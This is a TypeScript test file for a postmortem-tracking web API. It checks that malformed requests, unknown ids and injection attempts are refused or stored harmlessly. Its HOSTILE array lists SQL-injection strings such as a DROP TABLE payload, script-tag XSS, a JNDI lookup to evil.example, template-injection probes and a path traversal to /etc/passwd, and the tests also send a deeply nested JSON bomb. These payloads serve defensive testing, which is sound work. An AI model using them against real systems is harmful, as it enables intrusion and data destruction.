import { describe, expect, it } from 'vitest';
import { serverPerFile } from '../../test/server-harness.js';
import { forEachEngine } from '../../test/store-engines.js';
import { buildApp } from './app.js';

/** Strings that try SQL, script, template and path injection; each must be stored and returned exactly. */
const HOSTILE = [
  "'; DROP TABLE postmortems; --",
  '" OR 1=1 --',
  "Robert'); DELETE FROM users WHERE ('1'='1",
  '<script>alert("x")</script><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %>',
  '../../../../etc/passwd',
  '%27%20OR%201%3D1',
  'tab\tnew\nline \\ backslash \u202e right-to-left \ud83d\udd25',
];

/** Nothing an answer may ever show: stack frames, SQL, driver or file names. */
const INTERNALS = /\bat .+:\d+:\d+|node_modules|SQLITE|sqlite3?|SELECT |INSERT |syntax error|pg_|postgres/i;

forEachEngine((engine) => {
  const server = serverPerFile(engine);
  const count = async () => (await server().call('admin', 'GET', '/api/v1/postmortems?limit=200')).json().items.length as number;

  /** Sends a create that must fail with `status`; checks the error shape, that nothing leaked and nothing was written. */
  async function refusedCreate(status: number, code: string, request: { payload: string | Buffer; contentType?: string }) {
    const before = await count();
    const response = await server().call('editor', 'POST', '/api/v1/postmortems', {
      payload: request.payload,
      ...(request.contentType === undefined ? {} : { headers: { 'content-type': request.contentType } }),
    });
    expect(response.statusCode, response.body).toBe(status);
    expect(response.json().error).toMatchObject({ code, message: expect.any(String) });
    expect(response.body).not.toMatch(INTERNALS);
    expect(await count()).toBe(before);
    return response.json().error;
  }

  describe('malformed requests', () => {
    it('invalid JSON is 400 invalid_json', async () => {
      for (const payload of ['{"title": ', '{title: "x"}', "{'title': 'x'}", '[1,2', '\u0000']) {
        await refusedCreate(400, 'invalid_json', { payload, contentType: 'application/json' });
      }
    });

    it('an empty JSON body is 400, a JSON value that is not an object 422', async () => {
      await refusedCreate(400, 'invalid_json', { payload: '', contentType: 'application/json' });
      for (const payload of ['null', '42', '"title"', '[{"title":"x"}]']) await refusedCreate(422, 'invalid_input', { payload, contentType: 'application/json' });
    });

    it('wrong types are 422 with the path of each field', async () => {
      const error = await refusedCreate(422, 'invalid_input', {
        payload: JSON.stringify({ title: 42, restricted: 'yes', times: { startedAt: 'yesterday' }, actionItems: [{ title: 'x', owner: 5, priority: 'P0' }] }),
        contentType: 'application/json',
      });
      const paths = error.details.map((d: { path: string }) => d.path);
      expect(paths).toEqual(expect.arrayContaining(['title', 'restricted', 'times.startedAt', 'actionItems.0.owner', 'actionItems.0.priority']));
      for (const detail of error.details) expect(detail).toEqual({ path: expect.any(String), message: expect.any(String) });
    });

    it('unknown fields are refused at every depth', async () => {
      const error = await refusedCreate(422, 'invalid_input', {
        payload: JSON.stringify({ title: 'x', colour: 'red', times: { begin: '2024-01-01T00:00:00Z' }, actionItems: [{ title: 'y', assignee: 'z' }] }),
        contentType: 'application/json',
      });
      expect(error.details).toEqual(
        expect.arrayContaining([
          { path: 'colour', message: 'unknown field' },
          { path: 'times.begin', message: 'unknown field' },
          { path: 'actionItems.0.assignee', message: 'unknown field' },
        ]),
      );
    });

    it('a body over 2 MB is 413, as JSON or Markdown', async () => {
      const huge = 'x'.repeat(2 * 1024 * 1024 + 1);
      await refusedCreate(413, 'payload_too_large', { payload: JSON.stringify({ title: 'big', summary: huge }), contentType: 'application/json' });
      await refusedCreate(413, 'payload_too_large', { payload: `# Big\n\n${huge}`, contentType: 'text/markdown' });
    });

    it('other content types are 415', async () => {
      for (const contentType of ['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'application/merge-patch+json']) {
        await refusedCreate(415, 'unsupported_media_type', { payload: '{"title":"x"}', contentType });
      }
    });

    it('Markdown that is binary, not UTF-8 or empty is 400 invalid_markdown', async () => {
      await refusedCreate(400, 'invalid_markdown', { payload: Buffer.from([0x23, 0x20, 0xff, 0xfe, 0xfd, 0x0a]), contentType: 'text/markdown' });
      await refusedCreate(400, 'invalid_markdown', { payload: '# Title\n\u0000\u0001 binary', contentType: 'text/markdown' });
      await refusedCreate(400, 'invalid_markdown', { payload: '  \n\n ', contentType: 'text/markdown' });
    });

    it('broken but textual Markdown is imported as far as it reads, with diagnostics', async () => {
      const broken = '---\ntitle: [unclosed\nseverity: SEV9\n---\n# \n\n## Timeline\n\n| time | event\n|---\n| 25:99 | ???\n\n## Action Items\n\n- [ ] \n';
      const response = await server().call('editor', 'POST', '/api/v1/postmortems', { payload: broken, headers: { 'content-type': 'text/markdown' } });
      expect(response.statusCode).toBe(201);
      expect(response.json().diagnostics.length).toBeGreaterThan(0);
    });

    it('bad If-Match and path parameters are 4xx, never 500', async () => {
      const id = (await server().call('editor', 'POST', '/api/v1/postmortems', { json: { title: 'Target' } })).json().id;
      for (const ifMatch of ['W/"1"', '"1", "2"', 'abc', '"-1"']) {
        const response = await server().call('editor', 'PATCH', `/api/v1/postmortems/${id}`, { json: { title: 'x' }, headers: { 'if-match': ifMatch } });
        expect(response.statusCode, ifMatch).toBeGreaterThanOrEqual(400);
        expect(response.statusCode, ifMatch).toBeLessThan(500);
      }
      for (const url of [`/api/v1/postmortems/${'x'.repeat(300)}`, '/api/v1/postmortems/%00', '/api/v1/postmortems/%E0%A4%A', `/api/v1/postmortems/${id}/revisions/0`]) {
        const response = await server().call('viewer', 'GET', url);
        expect(response.statusCode, url).toBeGreaterThanOrEqual(400);
        expect(response.statusCode, url).toBeLessThan(500);
      }
      for (const url of ['/api/v1/postmortems/%ZZ', '/postmortems/%ZZ']) {
        const response = await server().call('viewer', 'GET', url);
        expect(response.statusCode, url).toBe(400);
        expect(response.json(), url).toEqual({ error: { code: 'bad_url', message: expect.stringMatching(/broken %-escape/) } });
      }
    });
  });

  describe('unknown ids', () => {
    it.each([
      ['GET', '/api/v1/postmortems/pm-missing'],
      ['GET', '/api/v1/postmortems/pm-missing/lint'],
      ['GET', '/api/v1/postmortems/pm-missing/revisions'],
      ['GET', '/api/v1/postmortems/pm-missing/revisions/1'],
      ['DELETE', '/api/v1/postmortems/pm-missing'],
    ] as const)('%s %s is 404 not_found', async (method, url) => {
      const response = await server().call('admin', method, url);
      expect(response.statusCode).toBe(404);
      expect(response.json().error.code).toBe('not_found');
    });
  });

  describe('injection attempts', () => {
    it('are stored verbatim in every text field and returned intact, as JSON and through a round trip', async () => {
      const [a = '', b = '', c = '', d = '', e = '', f = '', g = '', h = ''] = HOSTILE;
      const input = {
        title: a,
        author: b,
        commander: c,
        services: [d],
        teams: [e],
        tags: [f],
        summary: HOSTILE.join('\n'),
        whatHappened: g,
        rootCause: h,
        impact: { text: a, usersAffected: b, errorRate: c, revenueImpact: d },
        detection: { method: null, by: e },
        timeline: [{ at: '2024-01-01T00:00:00Z', written: f, text: g, actor: h, source: a }],
        whys: HOSTILE,
        contributingFactors: [{ text: b, actionItems: [c] }],
        wentWell: [d],
        wentPoorly: [e],
        surprises: [f],
        luckyBreaks: [g],
        lessons: [h],
        actionItems: [{ id: null, title: a, rationale: b, owner: c, due: d, ticket: e, verification: f }],
        review: { reviewers: [g], attendees: [h], approvals: [{ by: a, at: null }] },
        otherSections: [{ heading: b, body: c }],
      };
      const created = await server().call('editor', 'POST', '/api/v1/postmortems', { json: input });
      expect(created.statusCode, created.body).toBe(201);
      const read = (await server().call('viewer', 'GET', `/api/v1/postmortems/${created.json().id}`)).json();
      expect(read).toMatchObject(input);
      expect(read.timeline[0]).toMatchObject({ written: f, text: g, actor: h, source: a });
    });

    it('in filters and search are plain values: no error, no extra rows', async () => {
      for (const value of HOSTILE) {
        for (const key of ['q', 'service', 'tag', 'author']) {
          const response = await server().call('viewer', 'GET', `/api/v1/postmortems?${key}=${encodeURIComponent(value)}`);
          expect(response.statusCode, `${key}=${value}`).toBe(200);
          const titles = response.json().items.map((row: { title: string }) => row.title);
          for (const title of titles) expect(HOSTILE).toContain(title);
        }
        expect((await server().call('viewer', 'GET', `/api/v1/action-items?owner=${encodeURIComponent(value)}`)).statusCode).toBe(200);
      }
    });

    it('NUL characters anywhere are refused with their path (PostgreSQL cannot store them), on every engine', async () => {
      const error = await refusedCreate(422, 'invalid_input', {
        payload: JSON.stringify({ title: 'a\u0000b', actionItems: [{ title: 'ok', owner: '\u0000' }] }),
        contentType: 'application/json',
      });
      expect(error.details).toEqual([
        { path: 'title', message: expect.stringMatching(/NUL/) },
        { path: 'actionItems.0.owner', message: expect.stringMatching(/NUL/) },
      ]);
      expect((await server().call('viewer', 'GET', '/api/v1/postmortems?q=%00')).statusCode).toBe(422);
    });

    it('JSON nested thousands of levels deep is refused as input, not a crash, even before sign-in', async () => {
      const deep = `${'['.repeat(5_000)}${']'.repeat(5_000)}`;
      const login = await server().call(null, 'POST', '/api/v1/auth/login', { payload: `{"email":"a@b.co","password":"12345678","x":${deep}}`, headers: { 'content-type': 'application/json' } });
      expect(login.statusCode).toBe(422);
      const created = await refusedCreate(422, 'invalid_input', { payload: `{"title":"Deep","tags":${deep}}`, contentType: 'application/json' });
      expect(JSON.stringify(created)).not.toMatch(INTERNALS);
    });

    it('in e-mails and passwords at sign-in are just wrong credentials', async () => {
      for (const value of HOSTILE) {
        const response = await server().app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { email: value, password: value }, remoteAddress: `10.9.${HOSTILE.indexOf(value)}.1` });
        expect(response.statusCode).toBe(401);
      }
    });
  });

  describe('faults', () => {
    it('an unexpected failure is 500 internal_error with nothing of its internals; /readyz says 503', async () => {
      const store = await engine.openStore();
      const app = await buildApp({ store });
      await store.close();
      try {
        const response = await app.inject({ method: 'GET', url: '/api/v1/postmortems', headers: { authorization: 'Bearer dbr_whatever' } });
        expect(response.statusCode).toBe(500);
        expect(response.json()).toEqual({ error: { code: 'internal_error', message: expect.any(String) } });
        expect(response.body).not.toMatch(INTERNALS);
        const ready = await app.inject({ method: 'GET', url: '/readyz' });
        expect(ready.statusCode).toBe(503);
        expect(ready.json()).toEqual({ status: 'unavailable' });
      } finally {
        await app.close();
      }
    });
  });
});
